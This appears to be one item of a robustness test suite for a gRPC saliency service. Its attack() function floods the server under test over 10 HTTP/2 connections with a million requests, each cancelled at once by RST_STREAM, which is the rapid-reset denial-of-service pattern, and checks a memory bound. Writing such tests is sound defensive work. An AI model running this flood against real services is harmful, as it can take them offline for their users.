"""Calls that are reset as soon as they are begun."""

from http2 import (END_HEADERS, HEADERS, RST_STREAM, Peer, frame, header_block,
                   pump_all)

ITEM = "2"
WHAT = "1,000,000 calls that are reset at once, on 10 connections"
BOUND_MIB = 1500
MAY_REFUSE = True


def attack(server):
    block = header_block("/saliency.v1.SaliencyService/ComputeSaliency")
    cancel = (8).to_bytes(4, "big")
    calls = 0
    peers = [Peer(server.port) for _ in range(10)]
    for start in range(0, 100_000, 1000):
        for peer in peers:
            if peer.closed:
                continue
            for number in range(start, start + 1000):
                stream = 2 * number + 1
                peer.out += frame(HEADERS, END_HEADERS, stream, block)
                peer.out += frame(RST_STREAM, 0, stream, cancel)
            calls += 1000
        while any(len(peer.out) > 1 << 17 and not peer.closed
                  for peer in peers):
            pump_all(peers, 1)
    pump_all(peers, 10)
    for peer in peers:
        peer.close()
    return {"note": f"{calls} calls begun and reset"}
